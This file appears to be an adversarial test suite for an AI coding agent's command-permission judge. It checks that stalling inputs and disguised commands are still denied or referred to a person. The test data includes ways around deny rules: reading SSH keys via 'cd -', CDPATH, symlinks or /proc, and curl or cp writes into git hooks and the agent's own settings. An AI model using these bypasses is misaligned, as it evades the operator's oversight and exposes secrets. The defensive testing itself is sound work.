"""Attacks on the judge of commands: texts and trees made to stall it, and commands that are not what they look like."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given, settings, target
from hypothesis import strategies as st

from tests.adversarial.attack import Attack, attack, attacks
from tests.tools.box import Box
from tui_agent.core.names import Approval, Decision
from tui_agent.permissions.budget import JudgementBudget
from tui_agent.permissions.findings import Judgement
from tui_agent.permissions.judge import Permissions
from tui_agent.permissions.offers import offers
from tui_agent.permissions.programs import tables
from tui_agent.permissions.rules import parse_rule
from tui_agent.permissions.runners import RUNNERS
from tui_agent.permissions.uses import Use
from tui_agent.shell_syntax import LONGEST

MOST_SECONDS = 0.15
"""Of the processor, for one judgement: three times what is promised, so that no slow machine fails the test."""

GUARDS = ("bash(rm -rf *)", "bash(rm x)", "read_file(**/.env)", "edit_file(*.lock)", "web_fetch(*.evil.org)")
ALLOWED = ("bash(ls *)", "bash(cat *)", "bash(pytest *)")


def judge(
    root: Path,
    command: str,
    allow: tuple[str, ...] = (),
    deny: tuple[str, ...] = (),
    approve: Approval = Approval.ASK,
) -> Judgement:
    rules = [parse_rule(Decision.ALLOW, text, "test") for text in allow]
    rules += [parse_rule(Decision.DENY, text, "test") for text in deny]
    return Permissions(rules, root, approve).judge("bash", "command", {"command": command})


def stalls(name: str, tried: str, command: str, fell: str = "") -> Attack:
    return Attack(
        f"stall_{name}", tried, "Judged, or asked with the reason, within 50 ms", fell, value=command
    )


@attacks(
    stalls("nice", "`nice ` 900 times before a program", "nice " * 900 + "ls", "over 30 s"),
    stalls("env", "`env ` 3,000 times", "env " * 3000 + "ls", "minutes"),
    stalls("timeout", "`timeout 1 ` 1,900 times", "timeout 1 " * 1900 + "ls", "minutes"),
    stalls("xargs", "`xargs ` 3,000 times", "xargs " * 3000 + "ls", "minutes"),
    stalls("sudo", "`sudo ` 3,900 times before `rm x`", "sudo " * 3900 + "rm x", "a RecursionError"),
    stalls("eval", '`eval "a b" ` 1,700 times', 'eval "a b" ' * 1700, "seconds"),
    stalls("evals", '`eval "a b"; ` 1,500 times', 'eval "a b"; ' * 1500, "225 ms"),
    stalls("scripts", "`bash -c ` 2,000 times", "bash -c " * 2000, "a RecursionError"),
    stalls(
        "scripts_in_scripts",
        "Scripts in the arguments of scripts, all alike",
        'bash -c \'sudo eval "sudo sh a b" "eval c d"\' ' * 400,
        "minutes",
    ),
    stalls("folders", "`cd a; ` 3,000 times", "cd a; " * 3000, "memory for 2^3000 folders"),
    stalls("folders_apart", "`cd` to 2,000 folders", "".join(f"cd d{n}; " for n in range(2000)), "the same"),
    stalls("brackets", "`[a` 9,000 times", "[a" * 9000, "seconds with path rules"),
    stalls("brackets_in_a_word", "`[a` 1,245 times in one argument", "cat " + "[a" * 1245, "58 ms"),
    stalls("braces", "`{,` 9,000 times in one word", "echo x" + "{," * 9000, "cubic time"),
    stalls("stars", "A path of 1,000 `*/`", "cat " + "*/" * 1000, "a RecursionError"),
    stalls("stars_in_a_name", "9,000 stars in one name", "cat " + "*a" * 9000),
    stalls("pipes", "10,000 pipes, the last one open", "a|" * 9999, "3.2 s: the grammar's repair"),
    stalls("arrays", "5,000 arrays that never close", "a=(" * 5000, "seconds: the grammar's repair"),
    stalls("calculations", "6,000 calculations that never close", "((a" * 6000, "the same"),
    stalls("functions", "4,500 functions without a body", "a() " * 4500, "the same"),
    stalls("here_documents", "4,000 here-documents without an end", "<<a " * 4000, "240 ms"),
    stalls("redirections", "6,000 redirections", "ls " + ">a " * 6000, "300 ms"),
    stalls("lists", "10,000 programs", "a;" * 9999, "260 ms"),
    stalls("words", "10,000 words", "a " * 9999, "70 ms"),
    stalls("paths_in_a_word", "10,000 paths in one word", "cat " + "a:" * 9000),
    stalls("folders_in_a_path", "A path of 9,000 folders", "cat " + "a/" * 9000),
    stalls("assignments", "4,900 variables", "A=1 " * 4900 + "ls"),
    stalls("variables", "6,000 variables among the arguments", "ls " + "$a " * 6000),
    stalls("read_words", "`find . -name a ` 330 times behind `ls`", "ls " + "find . -name a " * 330, "62 ms"),
    stalls("conditions", "`$a if a; then ` 1,300 times", "ls " + "$a if a; then " * 1_300, "61 ms"),
    stalls("mixed", "Commands, calculations and pipes", "ls " + "git log $((a)) a:b a|" * 940, "58 ms"),
    stalls("quoted", "5,000 quoted words", "ls " + "'x' " * 4_990, "53 ms"),
    stalls("within_words", "4,000 process substitutions", "ls " + "<(a) " * 3_990, "53 ms"),
    stalls("programs", "3,300 programs with a word", "cat " + "a;a " * 3_300, "55 ms"),
    stalls("groups", "Groups nested 9,000 deep", "(" * 9000),
    stalls("substitutions", "Substitutions nested 9,000 deep", "$(" * 9000),
    stalls("same_program", "The denied program 6,000 times", "xargs rm" + " rm" * 6000),
    stalls("options", "9,000 letters behind one dash", "rm -" + "a" * 9000),
    stalls(
        "pipes_and_brackets",
        "Pipes, calculations, open brackets",
        "git log $((a)) a|" * 390 + "(" * 9000,
        "90 ms",
    ),
)
def test_a_text_made_to_stall_the_judge(row: Attack, tmp_path: Path) -> None:
    for allow, deny in (((), ()), (ALLOWED, ()), (ALLOWED, GUARDS)):
        judge(tmp_path, "ls", allow, deny)
        began = time.thread_time()
        judged = judge(tmp_path, row.value, allow, deny)
        taken = time.thread_time() - began
        assert taken < MOST_SECONDS, (allow, deny)
        # What could not be judged is never let through where a rule may be about it.
        at_all = [judge(tmp_path, row.value, allow, deny, Approval.ALL)] if deny else []
        for each in (judged, *at_all):
            if any("could not be judged" in one.why for one in each.findings):
                assert each.decision is not Decision.ALLOW


@attack(
    "A call with 50,000 paths, one with 5,000 commands, and a command that plan mode looks at twice",
    "All of a call shares 50 ms",
    fell="each path, each argument and each look had 50 ms of its own",
)
def test_one_budget_for_a_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    budgets: list[JudgementBudget] = []
    made = JudgementBudget.__init__

    def counted(self: JudgementBudget) -> None:
        budgets.append(self)
        made(self)

    monkeypatch.setattr(JudgementBudget, "__init__", counted)
    rules = [parse_rule(Decision.DENY, text, "test") for text in GUARDS]
    plan = Permissions(rules, tmp_path, Approval.PLAN, confined=False)
    read = {"paths": [f"d/{number}/../x" for number in range(50_000)] + ["a/.env"]}
    run = {f"command{number}": f"ls {number}" for number in range(5_000)}
    for tool, effect, arguments in (("read_many", "read", read), ("run_many", "command", run)):
        uses = dict.fromkeys(arguments, Use.READS) if effect == "read" else {}
        began = time.thread_time()
        judged = plan.judge(tool, effect, arguments, uses)
        assert time.thread_time() - began < MOST_SECONDS
        assert judged.decision is not Decision.ALLOW
    plan.judge("bash", "command", {"command": "ls " + "$a " * 6_000})
    assert len(budgets) == 3


@attacks(
    *(
        Attack(name, tried, "The rule that denies holds", fell, value=arguments)
        for name, tried, fell, arguments in (
            (
                "one_of_many",
                "A denied file behind 400 others",
                "200 were looked at",
                {"x": ["a"] * 400 + ["b/.env"]},
            ),
            (
                "a_long_path",
                "`./` 3,000 times before it",
                "4,096 characters were",
                {"x": "./" * 3_000 + ".env"},
            ),
            ("within_lists", "Nine lists around it", "six were looked into", {"x": [[[[[[[[[".env"]]]]]]]]]}),
            (
                "a_long_command",
                "5,000 blanks before it",
                "4,096 characters were",
                {"command": " " * 5_000 + "rm x"},
            ),
        )
    )
)
def test_what_stands_far_back_in_an_argument(row: Attack, tmp_path: Path) -> None:
    rules = [parse_rule(Decision.DENY, text, "test") for text in GUARDS]
    rules.append(parse_rule(Decision.ALLOW, "theirs", "test"))
    judged = Permissions(rules, tmp_path).judge("theirs", "command", row.value, {})
    assert judged.decision is Decision.DENY


PIECES = (
    *(
        "ls ",
        "a;",
        "a|",
        "a&&",
        "$a ",
        "${a:-b} ",
        "$(a) ",
        "<(a) ",
        ">a ",
        "2>&1 ",
        "'x' ",
        '"x $y" ',
        "{a,b} ",
        "*/",
    ),
    *(
        "[a",
        "a:",
        "A=1 ",
        "nice ",
        "xargs ",
        "timeout 1 ",
        "bash -c 'a b' ",
        'eval "a b"; ',
        "cd a; ",
        "if a; then ",
    ),
    *(
        "fi; ",
        "while a; do ",
        "done; ",
        "for x in a b; do ",
        "case a in b) ",
        "esac; ",
        "((a)) ",
        "$((1+a)) ",
        "<<a ",
    ),
    *(
        "[[ a -eq b ]] ",
        "find . -name a ",
        "git log ",
        "\\\n",
        "\n",
        "#a\n",
        "`a` ",
        "é",
        "@(a|b)",
        "a() { b; }; ",
    ),
    *("arr=(a b) ", "python -c 'a' ", "&", "(", ")", "{ ", "} ", '"', "'", "$(", "${", "cat a.env "),
)
"""What commands are made of; together they meet each branch of the grammar and its repair."""


@attack(
    "Any mixture of pieces of commands, repeated up to the longest text that is read: 400 of them, by hypothesis",
    "Judged, or asked with the reason, within 50 ms",
    fell="79 ms where pipes, calculations and open brackets met",
    slow=True,
)
def test_any_mixture(tmp_path: Path) -> None:
    @settings(max_examples=400, deadline=None, database=None)
    @given(
        st.lists(
            st.tuples(st.lists(st.sampled_from(PIECES), min_size=1, max_size=4), st.integers(1, 4_000)),
            max_size=3,
        )
    )
    def judged_in_time(parts: list[tuple[list[str], int]]) -> None:
        command = "".join("".join(pieces) * number for pieces, number in parts)[:LONGEST]
        times = []
        for _ in range(2):  # the better of two: a machine may be busy
            began = time.thread_time()
            judge(tmp_path, command, ALLOWED, GUARDS)
            times.append(time.thread_time() - began)
        target(min(times))
        assert min(times) < MOST_SECONDS

    judged_in_time()


@attack(
    "Four links to `.` and a wildcard of fourteen levels: 4^14 ways to each file",
    "Asked within 50 ms; every folder is listed once",
    fell="the search for files never ended, and nothing but SIGKILL ended it",
)
def test_links_to_the_folder_itself(tmp_path: Path) -> None:
    for name in "abcd":
        (tmp_path / name).symlink_to(".")
    (tmp_path / ".env").touch()
    began = time.thread_time()
    judged = judge(tmp_path, "cat " + "*/" * 14 + "nomatch", ("bash(cat *)",), ("read_file(**/.env)",))
    assert time.thread_time() - began < MOST_SECONDS
    assert judged.decision is Decision.ALLOW
    hidden = judge(tmp_path, "cat " + "*/" * 14 + ".env", ("bash(cat *)",), ("read_file(**/.env)",))
    assert hidden.decision is Decision.DENY


@attack(
    "A folder of 30,000 files and a wildcard for them, with a rule that denies some of them",
    "Asked within 50 ms: what a wildcard stands for is looked at up to 20,000 names",
    fell="the first 1,000 were looked at, and the others let through",
)
def test_a_wildcard_for_too_many_files(tmp_path: Path) -> None:
    for number in range(20_001):
        os.close(os.open(tmp_path / f"f{number}", os.O_CREAT))
    (tmp_path / "z.env").touch()
    began = time.thread_time()
    judged = judge(tmp_path, "cat *", ("bash(cat *)",), ("read_file(*.env)",))
    assert time.thread_time() - began < MOST_SECONDS
    assert judged.decision is Decision.ASK


@attack(
    "Links in a circle, a chain of 3,000 links, links that multiply (`l1 -> l0/../l0`)",
    "Judged within 50 ms as the kernel would follow them; what it would not follow asks",
    fell="a RecursionError for the chain",
)
def test_chains_of_links(tmp_path: Path) -> None:
    (tmp_path / "circle").symlink_to("circle")
    (tmp_path / "l0").symlink_to(".")
    for number in range(1, 3_000):
        (tmp_path / f"l{number}").symlink_to(f"l{number - 1}/../{tmp_path.name}/l{number - 1}")
    for name in ("circle/x", "l2999/x", "l30/x"):
        began = time.thread_time()
        judged = judge(tmp_path, f"cat {name}", ("bash(cat *)",))
        assert time.thread_time() - began < MOST_SECONDS
        assert judged.decision is Decision.ASK
    assert judge(tmp_path, "cat l3/x", ("bash(cat *)",)).decision is Decision.ALLOW


def passes(
    name: str, tried: str, command: str, allow: str, deny: str = "", *, holds: str = "Asked", fell: str = ""
) -> Attack:
    return Attack(f"pass_{name}", tried, holds, fell, value=(command, allow, deny))


RULE_PASSED = "it ran under the rule"
OUT = "Asked: it leads out of the workspace"


@attacks(
    passes(
        "cd_dash",
        "`cd -` into the folder that the operator's shell came from",
        "cd - && cat .ssh/id_rsa",
        "bash(cat *)",
        "read_file(~/.ssh/**)",
        fell=RULE_PASSED,
    ),
    passes(
        "cd_home",
        "`cd` without a folder",
        "cd; cat .ssh/id_rsa",
        "bash",
        "read_file(~/.ssh/**)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "cd_dash_allowed",
        "The same where `cd` and `cat` are allowed",
        "cd -; cat id_rsa",
        "bash(cat *); bash(cd *)",
        fell=RULE_PASSED,
    ),
    passes("popd", "`popd`", "popd; cat .ssh/id_rsa", "bash", "read_file(~/.ssh/**)", fell=RULE_PASSED),
    passes(
        "cdpath",
        "`CDPATH` set in the command",
        "CDPATH=~; cd .ssh; cat id_rsa",
        "bash",
        "read_file(~/.ssh/**)",
        fell=RULE_PASSED,
    ),
    passes(
        "builtin_cd",
        "`builtin cd`, `command cd`",
        "builtin cd ~; command cd .ssh; cat id_rsa",
        "bash",
        "read_file(~/.ssh/id_rsa)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "cd_in_a_script",
        "`cd` in a script in the arguments",
        "sudo bash -c 'cd ~/.ssh/.; cat id_rsa'",
        "bash",
        "read_file(~/.ssh/id_rsa)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "git_in_a_folder",
        "`git -C` into the folder",
        "git -C ~/.ssh diff --no-index id_rsa x",
        "bash",
        "read_file(~/.ssh/id_rsa)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "home_in_a_rule",
        "A rule that denies files of the home folder, the file by its whole path",
        "cat HOME/.ssh/id_rsa",
        "bash",
        "read_file(~/.ssh/**)",
        holds="Denied",
        fell="`~` in a rule meant nothing, without a word",
    ),
    passes(
        "link_read",
        "A link in the checkout to a folder of keys",
        "cat docs/id_rsa",
        "bash(cat *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_removed",
        "A file behind such a link removed",
        "rm -rf docs/x",
        "bash(rm *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_written",
        "A copy to behind such a link",
        "cp a docs/b",
        "bash(cp *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_entered",
        "`cd` behind such a link",
        "cd docs && cat id_rsa",
        "bash(cat *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_by_wildcard",
        "A wildcard that finds such a link",
        "cat do*/id_rsa",
        "bash(cat *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_by_pattern",
        "A rule for names, one of them such a link",
        "cat docs/id_rsa",
        "bash(cat d*)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_in_an_option",
        "Such a link behind an option",
        "grep -fdocs/id_rsa a",
        "bash(grep *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_in_a_value",
        "Such a link in the value of an option",
        "grep --file=docs/id_rsa a",
        "bash(grep *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes(
        "link_over_links",
        "A link to a link to it",
        "cat twice/id_rsa",
        "bash(cat *)",
        fell=RULE_PASSED,
        holds=OUT,
    ),
    passes("link_and_back", "`..` behind such a link", "cat docs/../secret", "bash(cat *)", holds=OUT),
    passes(
        "link_denied",
        "A link to what a rule denies, by a wildcard",
        "cat t*/id_rsa",
        "bash",
        "read_file(~/.ssh/**)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "link_in_a_rule",
        "A rule that names a link, the file by its real path",
        "cat HOME/.ssh/id_rsa",
        "bash",
        "read_file(docs/**)",
        holds="Denied",
        fell=RULE_PASSED,
    ),
    passes(
        "hook_copied", "A copy into git's hooks", "cp a .git/hooks/pre-commit", "bash(cp *)", fell=RULE_PASSED
    ),
    passes(
        "hook_moved",
        "A move from within `.git`",
        "cd .git/hooks && mv a pre-commit",
        "bash(mv *)",
        fell=RULE_PASSED,
    ),
    passes(
        "hook_by_a_link",
        "A copy to git's hooks through a link",
        "cp a hooks/pre-commit",
        "bash(cp *)",
        fell=RULE_PASSED,
    ),
    passes("hook_case", "A copy to `.GIT`", "tee .GIT/config", "bash(tee *)", fell=RULE_PASSED),
    passes(
        "own_settings",
        "A copy over this program's settings",
        "cp a .agent-tui.toml",
        "bash(cp *)",
        fell=RULE_PASSED,
    ),
    passes(
        "hook_downloaded",
        "A download into git's hooks",
        "curl -o .git/hooks/pre-commit https://a.org/x",
        "bash(curl *)",
        fell=RULE_PASSED,
    ),
    passes(
        "hook_sorted",
        "`sort -o` into git's configuration",
        "sort -o .git/config a",
        "bash(sort *)",
        fell=RULE_PASSED,
    ),
    passes(
        "scripts_nested",
        "A denied program in a script six scripts deep",
        'sh -c "sh -c \'sh -c \\"sh -c \\\\\\"sh -c rm\\\\ -rf\\\\ x\\\\\\"\\"\'"',
        "bash",
        "bash(rm -rf *)",
        fell=RULE_PASSED,
    ),
    passes(
        "padded",
        "A denied program behind 60 variables of `env`",
        "env " + "A=1 " * 60 + "rm -rf x",
        "bash",
        "bash(rm -rf *)",
        holds="Denied",
        fell="only the first 40 words were looked at",
    ),
    passes(
        "class",
        "A wildcard with a class of characters",
        "cat .[[:lower:]]nv",
        "bash",
        "read_file(**/.env)",
        fell=RULE_PASSED,
        holds="Denied",
    ),
    passes(
        "negated",
        "A wildcard with a negated set",
        "cat .[^x]nv",
        "bash",
        "read_file(**/.env)",
        fell=RULE_PASSED,
        holds="Denied",
    ),
    passes(
        "process",
        "A path through /proc",
        "cat /proc/self/cwd/.env",
        "bash",
        "read_file(**/.env)",
        fell=RULE_PASSED,
    ),
)
def test_a_command_that_is_not_what_it_looks_like(
    row: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home, root = tmp_path / "home", tmp_path / "work"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").touch()
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "docs").symlink_to(home / ".ssh")
    (root / "twice").symlink_to("docs")
    (root / "hooks").symlink_to(".git/hooks")
    for name in ("a", ".env"):
        (root / name).touch()
    monkeypatch.setenv("HOME", str(home))
    command, allow, deny = row.value
    judged = judge(
        root, command.replace("HOME", str(home)), tuple(allow.split("; ")), tuple(filter(None, [deny]))
    )
    assert judged.decision is (Decision.DENY if row.holds == "Denied" else Decision.ASK)


@attack(
    "OLDPWD and CDPATH of the operator's shell, for a command that goes to where they point",
    "Neither is there: `cd -` fails, and `cd x` goes to the x that was judged",
    fell="both were handed on",
)
async def test_folders_of_the_operators_shell(
    box: Box, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "src").mkdir(parents=True)
    (box.root / "src").mkdir()
    monkeypatch.setenv("OLDPWD", str(elsewhere))
    monkeypatch.setenv("CDPATH", str(elsewhere))
    output = await box.call("bash", command="cd - 2>/dev/null && echo went; cd src && pwd")
    assert "went" not in output.content
    assert str(box.root / "src") in output.content
    assert "elsewhere" not in output.content


BY_SUBCOMMAND = [
    "git rebase -x evil main", "git submodule foreach evil", "git bisect run evil", "git grep -O evil",
    "git difftool -x evil", "git clone -u evil x", "git config alias.x !evil",
    "git filter-branch --tree-filter evil", "git -c alias.x=!evil x", "tar xf a", "split a", "rsync a b",
    "valgrind ls", "fakeroot ls", "ld-linux-x86-64.so.2 ls", "/lib64/ld-linux-x86-64.so.2 ls", "mise exec -- ls",
    "mise x ls", "pipx run x", "dotenv run ls", "awk x", "gawk x", "sed p a", "vim x", "vi x",
    "man x",
    "less x", "more x", "ssh host x", "scp a b", "sftp a", "zip a b", "gdb x", "lldb x",
    "strace ls", "ltrace ls",
    "perf record ls", "watch ls", "parallel ls", "entr ls", "flock a ls", "chroot a ls", "unshare ls", "nsenter ls",
    "script a", "expect a", "at now", "batch now", "npx x", "bunx x", "uvx x", "pnpm dlx x", "yarn dlx x", "bun x a",
    "npm exec x", "npm run x", "cmake -E env ls", "cmake -P x", "ninja all", "go run x", "go generate x", "go tool x",
    "cargo run x", "cargo install x", "docker run x", "docker exec x", "podman run x", "kubectl exec x",
    "kubectl run x", "psql x", "sqlite3 x", "mysql x", "r -e x", "Rscript x", "perl x", "ruby x", "node x",
    "deno run x", "php x", "lua x", "tclsh x", "busybox ls", "env ls", "emacs x", "nano x", "ionice ls",
    "taskset 1 ls", "stdbuf ls", "setsid ls", "firejail ls", "poetry run x", "uv run x", "uv tool run x", "uv x",
    "hatch run x", "pdm run x", "rye run x", "tox run x", "nox run x", "direnv exec a", "nix develop x", "nix-shell x",
    "conda run x", "micromamba run x", "asdf exec x", "rbenv exec x", "pyenv exec x", "bundle exec x", "rustup run x",
    "dotnet run x", "mvn exec x", "gradle run x", "java x", "tmux new x", "screen x", "systemd-run x", "crontab x",
    "ansible all x", "vagrant ssh x", "adb shell x", "heroku run x", "wget x", "nc a", "socat a", "openssl x",
    "tcpdump a", "nmap x", "crontab a", "git svn x", "git send-email x", "hyperfine x", "time ls", "coverage run x",
    "just x", "task x", "rake x", "gulp x", "invoke x", "doit x", "pre-commit run x", "lerna exec x",
    "nx run x", "turbo run x", "npm x", "pip install x", "corepack yarn x", "volta run x", "fnm exec x", "op run x",
    "doppler run x", "aws-vault exec x", "chronic ls", "ts ls", "xdg-open a", "gpg x", "ctags x",
    "dpkg x", "apt x", "rpm x", "mount x", "ip netns", "capsh x", "prlimit ls", "setpriv ls", "runcon ls", "linux64 ls",
    "wine x", "qemu-x86_64 ls", "rr record ls", "heaptrack ls", "ccache gcc", "distcc gcc", "gcc a.c", "bear make",
    "sshpass ssh", "torsocks ls", "unbuffer ls", "faketime x", "cpulimit x", "logsave a", "run-parts x",
    "dbus-launch ls", "xterm x", "uv pip", "install a b",
]  # fmt: skip


RUN_BY_NAME = sorted(RUNNERS)


def widened(*commands: str) -> set[str]:
    """Those for which a card offers a rule with any arguments."""
    return {
        command
        for command in commands
        for texts in offers("bash", {"command": command})
        for text in texts
        if text.endswith(" *)")
    }


@attack(
    f"What a card offers for {len(RUN_BY_NAME)} programs that run, or let run later, what their arguments say, "
    "and for subcommands of theirs; also with a version, a variant or a target in their names",
    "Exactly these words, or every command: no prefix that covers other arguments of such a program",
    fell="git rebase, submodule and bisect, tar, split, rsync, valgrind, mise, pipx, … were offered by name; then, "
    "against their manuals, gmake, sdiff, py.test, ssh-agent, ssh-keygen, ldd, prove, eslint, gh, systemctl, magick, …",
)
def test_rules_that_a_card_offers() -> None:
    assert not RUNNERS & tables().rules.keys()
    assert not widened(*BY_SUBCOMMAND)
    assert not widened(
        *(f"{name} x" for name in RUN_BY_NAME), *(f"/usr/bin/{name} x" for name in RUN_BY_NAME)
    )
    assert not widened("gcc-12 x", "x86_64-linux-gnu-g++-12 x", "vim.tiny x", "nc.openbsd x", "pip3.11 install",
                       "git init --template=x", "/usr/lib/git-core/git-rebase x", "fdfind x")  # fmt: skip
    assert widened("jq . a", "./check a", "git commit -m x") == {"jq . a", "./check a", "git commit -m x"}


@attack(
    "What the rules for `sort`, `git commit`, … of a card cover: options that run, load or write elsewhere",
    "None of them",
    fell="`sort --compress-program`",
)
def test_options_of_known_programs(tmp_path: Path) -> None:
    for asked, hostile in (
        ("sort a", "sort --compress-program=evil a"),
        ("sort a", "sort --compress-prog evil a"),
        ("sort a", "sort -o setup.py a"),
        ("sort a", "sort -T docs a"),
        ("sort a", "sort --files0-from=x"),
        ("make all", "make --eval=$(shell)"),
        ("make all", "make --eval='$(shell evil)'"),
        ("make all", "make CC=evil"),
        ("make all", "make -f evil"),
        ("make all", "make -Eevil"),
        ("git push origin", "git push --receive-pack=evil ."),
        ("git push origin", "git push --exec evil ."),
        ("git fetch", "git fetch --upload-pack=evil ."),
        ("git show", "git show --output=.git/hooks/pre-commit"),
        ("git show", "git show --ext-diff"),
        ("git stash", "git stash show --output=.git/hooks/pre-commit"),
        ("cargo fmt", "cargo run"),
        ("git merge main", "git merge -s evil main"),
        ("git revert HEAD", "git revert --strategy=evil HEAD"),
        ("find . -name x", "find . -exec evil {} +"),
        ("find . -name x", "find . -delete"),
        ("find . -name x", "find . -fprintf setup.py x"),
    ):
        for texts in offers("bash", {"command": asked}):
            if texts != ("bash",):
                assert judge(tmp_path, hostile, texts).decision is Decision.ASK, texts


@pytest.mark.process
@attack(
    "A judgement of a hostile command under `run`, interrupted by Ctrl+C",
    "It ends at once, with the exit code of an interruption",
    fell="only SIGKILL ended it",
)
def test_a_judgement_that_is_interrupted(tmp_path: Path) -> None:
    import sys

    for name in "abcd":
        (tmp_path / name).symlink_to(".")
    done = subprocess.run(
        [sys.executable, "-m", "tui_agent", "permissions", "explain", "cat " + "*/" * 14 + "nomatch"],
        cwd=tmp_path,
        env={
            "HOME": str(tmp_path),
            "PATH": "/usr/bin:/bin",
            "AGENT_TUI_PERMISSIONS__DENY": '["read_file(**/.env)"]',
            "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        },
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
